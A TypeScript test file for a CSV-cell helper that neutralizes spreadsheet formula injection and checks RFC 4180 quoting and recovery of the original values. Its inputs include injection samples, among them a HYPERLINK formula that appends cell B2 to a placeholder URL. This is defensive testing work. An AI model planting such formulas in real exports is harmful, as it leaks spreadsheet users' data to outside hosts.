import { describe, it } from 'node:test'
import assert from 'node:assert/strict'
import { parse } from 'csv-parse/sync'
import { csvCell, neutralizeFormula, restoreCsvCell } from './csv-cell.js'

describe('CSV cells people open', () => {
  it('puts a quote before a value a spreadsheet would read as a formula (OWASP), and leaves others alone', () => {
    for (const value of ['=1+1', '+1', '-1+1', '@SUM(A1)', '\t=1', '\r=1', "'=1"]) assert.equal(neutralizeFormula(value), `'${value}`)
    for (const value of ['R0000042', 'SMITH', '', 'a=b', '2026-12-31']) assert.equal(neutralizeFormula(value), value)
  })

  it('quotes as RFC 4180 asks, after neutralizing', () => {
    assert.equal(csvCell('=HYPERLINK("http://x","y")'), `"'=HYPERLINK(""http://x"",""y"")"`)
    assert.equal(csvCell('123 MAIN ST, HOUSTON'), '"123 MAIN ST, HOUSTON"')
  })

  it('keeps every value recoverable: parse, then drop one leading quote', () => {
    const values = ['=HYPERLINK("http://x?"&B2,"click")', "'already quoted", "''", '-', 'plain', '', 'new\nline', '@@']
    const line = values.map(csvCell).join(',')
    const [cells] = parse(line) as string[][]
    assert.deepEqual(cells!.map(restoreCsvCell), values)
  })
})
